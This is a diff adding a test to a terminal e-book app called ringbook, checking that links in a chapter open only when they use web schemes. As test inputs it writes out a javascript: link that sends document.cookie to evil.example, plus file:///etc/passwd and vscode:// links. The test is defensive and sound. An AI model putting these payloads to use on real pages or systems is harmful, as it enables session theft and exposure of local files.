@@ -176,3 +176,28 @@ async def test_no_screen_obeys_markup_in_the_book(book_copy, data_dir):
         found += [] if "Oops[/]" in toast_text else ["a notification reads its message as markup"]
         assert found == []
         assert app.is_running
+
+
+async def test_a_link_in_a_book_opens_only_on_the_web(book_copy, data_dir, monkeypatch):
+    """A Markdown link is the author's: `javascript:` would run in the page `ringbook serve` shows (where
+    the session's secret lives), `file:` would open a learner's file, a custom scheme start a program."""
+    chapter = book_copy / "00-ring-allreduce" / "chapter.md"
+    links = ["javascript:fetch('https://evil.example/?'+document.cookie)", "file:///etc/passwd",
+             "vscode://file/etc/passwd", "https://example.com/ring"]
+    chapter.write_text(chapter.read_text() + "".join(f"\n[link {i}]({href})\n" for i, href in enumerate(links)))
+    book = load_book(book_copy)
+    app = RingbookApp(book, ProgressStore.open(data_dir), warm=False)
+    async with app.run_test(size=SIZE, notifications=True) as pilot:
+        opened: list[str] = []
+        monkeypatch.setattr(app._driver, "open_url", lambda url, new_tab=True: opened.append(url))
+        app.open_chapter(book.chapters[0])
+        await pilot.pause()
+        await app.workers.wait_for_complete()
+        await pilot.pause()
+        narrative = app.screen.query_one("#narrative", Markdown)
+        for href in links:
+            narrative.post_message(Markdown.LinkClicked(narrative, href))   # what a click on the link sends
+        await pilot.pause()
+        assert opened == ["https://example.com/ring"]
+        notices = [str(n.message) for n in app._notifications]
+        assert sum(notice.startswith("Not opened: ") for notice in notices) == 3
